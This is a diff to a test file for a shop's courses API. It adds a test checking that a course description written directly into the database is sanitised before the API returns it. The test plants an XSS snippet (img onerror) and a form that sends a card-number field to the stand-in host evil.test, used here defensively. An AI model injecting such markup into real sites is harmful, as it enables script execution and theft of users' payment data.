@@ -1,5 +1,6 @@
 import { sql } from 'drizzle-orm';
 import { describe, expect, it } from 'vitest';
+import { invalidate } from '../../src/server/cache/invalidation.ts';
 import { addDays, shopToday } from '../../src/server/courses/course-dates.ts';
 import { CITY_CODES } from '../../src/shared/cities.ts';
 import { api, dbRows, listAll, ORIGIN } from '../helpers/api.ts';
@@ -58,6 +59,16 @@ describe('GET /services/courses/', () => {
       expect(status).toBe(200);
       expect(body.is_upcoming).toBe(false);
     }
+  });
+
+  it('GET /services/courses/{slug}/ sanitises a description written to the database outside the shop', async () => {
+    const [course] = await dbRows<{ slug: string }>(sql`select slug from courses where is_published limit 1`);
+    await dbRows(
+      sql`update courses set description = '<p>Программа</p><img src=x onerror="alert(1)"><form action="https://evil.test"><input name="card"></form>' where slug = ${course!.slug}`,
+    );
+    await invalidate('content');
+    const { body } = await api(`/services/courses/${course!.slug}/`);
+    expect(body.description).toBe('<p>Программа</p>');
   });
 
   it('GET /services/courses/ treats empty category and city as «all», as the brief sends them', async () => {
